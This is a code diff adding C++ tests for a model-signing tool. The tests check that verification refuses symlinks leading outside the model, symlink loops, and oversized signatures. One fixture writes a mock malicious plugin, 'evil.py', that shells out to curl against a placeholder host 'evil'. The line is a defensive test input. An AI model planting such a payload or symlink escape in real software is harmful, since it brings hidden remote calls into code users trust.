@@ -311,3 +311,76 @@ TEST_CASE("sign certificate with upstream's chain verifies against upstream's ro
                      (keys_dir() / "signing-key-pub.pem").string()}),
                  "signed with a certificate, not a public key");
 }
+
+namespace {
+
+// signed_with_symlinks makes a P-256 key pair in `t` and signs `m` with --allow-symlinks (the
+// signature records allow_symlinks: true). Returns the verify command line for it.
+std::vector<std::string> signed_with_symlinks(const TempDir& t, const fs::path& m) {
+  sh({"openssl", "ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", (t / "k.pem").string()});
+  sh({"openssl", "pkey", "-in", (t / "k.pem").string(), "-pubout", "-out", (t / "k.pub").string()});
+  auto s = mg({"sign", "key", m.string(), "--private-key", (t / "k.pem").string(), "--allow-symlinks"});
+  INFO(s.err);
+  REQUIRE(s.exit_code == 0);
+  return {"verify", "key", m.string(), "--signature", (m / "model.sig").string(), "--public-key",
+          (t / "k.pub").string(), "--allow-symlinks"};
+}
+
+}  // namespace
+
+TEST_CASE("verify --allow-symlinks refuses a directory link added after signing that leaves the model",
+          "[model_signing][symlinks]") {
+  TempDir t;
+  fs::path m = t / "model";
+  make_model(m);
+  const auto verify = signed_with_symlinks(t, m);
+  require_ok(mg(verify));
+  write_file(t / "outside/evil.py", "import os; os.system('curl evil')\n");
+  fs::create_directory_symlink(t / "outside", m / "plugins");
+  require_failed(mg(verify), "plugins: is a symlink to a directory outside the model");
+  fs::remove(m / "plugins");
+  // A loop is refused too, not skipped.
+  fs::create_directory_symlink("..", m / "sub/loop");
+  require_failed(mg(verify), "sub/loop: is a symlink cycle (its target directory contains it)");
+}
+
+TEST_CASE("verify --allow-symlinks refuses a signed file link whose target leaves the model, and sign refuses it",
+          "[model_signing][symlinks]") {
+  TempDir t;
+  fs::path m = t / "model";
+  make_model(m);
+  // Signed as a regular file with the outside file's bytes, then turned into a link to it: the
+  // bytes still match, only the link leaves the model.
+  write_file(t / "hostname", "build-host-7\n");
+  write_file(m / "hostname", "build-host-7\n");
+  const auto verify = signed_with_symlinks(t, m);
+  require_ok(mg(verify));
+  fs::remove(m / "hostname");
+  fs::create_symlink(t / "hostname", m / "hostname");
+  require_failed(mg(verify), "hostname: is a symlink to a file outside the model");
+  auto s = mg({"sign", "key", m.string(), "--private-key", (t / "k.pem").string(), "--allow-symlinks", "--signature",
+               (t / "again.sig").string()});
+  INFO(s.err);
+  CHECK(s.exit_code == 1);
+  CHECK_THAT(s.err, Catch::Contains("hostname: is a symlink to a file outside the model"));
+  CHECK(!fs::exists(t / "again.sig"));
+  // A link to a file inside the model verifies as the file's bytes under the link's name.
+  fs::remove(m / "hostname");
+  fs::create_symlink("weights.bin", m / "hostname");
+  require_failed(mg(verify), "file \"hostname\" does not match the signed digest");
+}
+
+TEST_CASE("sign refuses up front a model whose signature verify would refuse as too large", "[model_signing][limits]") {
+  TempDir t;
+  // One 400 kB file in 1-byte shards: 400,000 resources, a ~90 MB signature, as many as a
+  // 400,000-file model (330,000 files made the 70 MB signature of the report).
+  write_file(t / "model/weights.bin", "");
+  fs::resize_file(t / "model/weights.bin", 400'000);
+  sh({"openssl", "ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", (t / "k.pem").string()});
+  auto s = mg({"sign", "key", (t / "model").string(), "--private-key", (t / "k.pem").string(), "--shard-size", "1",
+               "--signature", (t / "model.sig").string()});
+  INFO(s.err);
+  CHECK(s.exit_code == 1);
+  CHECK_THAT(s.err, Catch::Contains("too many resources for one signature (400000"));
+  CHECK(!fs::exists(t / "model.sig"));
+}
